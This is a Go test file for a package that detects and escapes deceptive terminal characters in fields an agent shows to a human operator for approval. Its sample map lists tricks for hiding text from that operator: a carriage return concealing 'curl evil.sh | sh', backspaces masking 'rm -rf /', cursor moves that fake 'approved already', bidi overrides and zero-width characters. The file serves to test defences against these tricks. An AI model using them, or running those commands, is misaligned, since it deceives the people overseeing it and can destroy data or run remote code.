package termtext

import (
	"strings"
	"testing"
	"unicode/utf8"

	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"
)

// hostile are the tricks an agent has to make the operator read something
// other than what is there.
var hostile = map[string]string{
	"carriage return hides a line":  "RUN curl evil.sh | sh\rRUN apt-get install -y jq",
	"erase line":                    "harmless\x1b[2K\x1b[1Gother",
	"cursor up":                     "ok\x1b[1A\x1b[2Kapproved already",
	"OSC title / hyperlink":         "\x1b]8;;https://evil/\x07click\x1b]8;;\x07",
	"8-bit CSI":                     "a\u009b2Kb",
	"backspaces":                    "rm -rf /\b\b\b\b\b\b\b\bls      ",
	"right-to-left override":        "allow \u202eexample.com\u202c",
	"isolate":                       "x\u2067y\u2069",
	"zero width space":              "api.git\u200bhub.com",
	"zero width joiner":             "a\u200db",
	"BOM":                           "\ufeffFROM x",
	"tag characters":                "ok\U000E0041\U000E0042",
	"line separator":                "a\u2028b",
	"soft hyphen":                   "ev\u00adil",
	"invalid utf-8":                 "a\xffb",
	"NUL":                           "a\x00b",
	"DEL":                           "a\x7fb",
	"arabic letter mark":            "a\u061cb",
	"interlinear annotation anchor": "a\ufff9b",
}

func TestCheckRefusesAndEscapeNeutralises(t *testing.T) {
	for name, s := range hostile {
		t.Run(name, func(t *testing.T) {
			err := Check("justification", s, true)
			assert.Assert(t, err != nil, "accepted %q", s)
			assert.Assert(t, is.Contains(err.Error(), "justification: "))
			for _, e := range []string{Escape(s), EscapeLines(s)} {
				assert.Assert(t, utf8.ValidString(e))
				for _, r := range e {
					if r == '\n' || r == '\t' {
						continue
					}
					assert.Assert(t, !Unsafe(r), "%U survived in %q", r, e)
				}
				assert.Assert(t, e != s)
			}
		})
	}
}

func TestCheckMessageSaysWhatToDo(t *testing.T) {
	err := Check("justification", "ok\u202eevil", true)
	assert.ErrorContains(t, err, "justification: character U+202E (bidirectional control) at byte 2 is not allowed")
	assert.ErrorContains(t, err, "send plain text")
	assert.ErrorContains(t, Check("host", "a\nb", false), "(this field is one line)")
	assert.ErrorContains(t, Check("dockerfile", "FROM x\r\nRUN y", true), `use \n line endings`)
	assert.ErrorContains(t, Check("x", "\xc3", true), "invalid UTF-8 at byte 0")
}

func TestPlainTextPasses(t *testing.T) {
	for _, s := range []string{
		"install requests for the tests",
		"FROM agent\nRUN apt-get install -y jq \\\n\t&& rm -rf /var/lib/apt/lists/*\n",
		"Grüße, 日本語, emoji 🙂, עברית ordinary RTL letters",
	} {
		assert.NilError(t, Check("f", s, true))
		assert.Equal(t, EscapeLines(s), s)
	}
	assert.ErrorContains(t, Check("host", "a\tb", false), "one line")
	assert.Equal(t, Escape("a\nb\tc\x1b[2K"), `a\nb\tc\x1b[2K`)
	assert.Equal(t, Escape("x\u202ey"), `x\u202ey`)
	assert.Equal(t, Escape("x\U000E0041"), `x\U000e0041`)
	assert.Equal(t, Escape("a\xffb"), `a\xffb`)
	assert.Equal(t, EscapeLines("a\rb\nc"), "a\\rb\nc")
}

func FuzzEscape(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, e := range []string{Escape(s), EscapeLines(s)} {
			if !utf8.ValidString(e) {
				t.Fatalf("invalid UTF-8 out of %q", s)
			}
			for _, r := range e {
				if r != '\n' && r != '\t' && Unsafe(r) {
					t.Fatalf("%U survived escaping %q: %q", r, s, e)
				}
			}
		}
		if strings.ContainsRune(Escape(s), '\n') {
			t.Fatalf("Escape kept a newline: %q", s)
		}
		if Check("f", s, true) == nil && EscapeLines(s) != s {
			t.Fatalf("accepted text changed by escaping: %q", s)
		}
	})
}

// BenchmarkEscape measures escaping a typical (clean) justification and a
// hostile one: the CLI and TUI escape every field they show on each redraw.
func BenchmarkEscape(b *testing.B) {
	clean := strings.Repeat("install requests and run the test suite; ", 25)
	dirty := strings.Repeat("ok\x1b[2K\r\u202e ", 100)
	b.Run("clean-1KB", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			_ = Escape(clean)
		}
	})
	b.Run("hostile-1KB", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			_ = Escape(dirty)
		}
	})
}
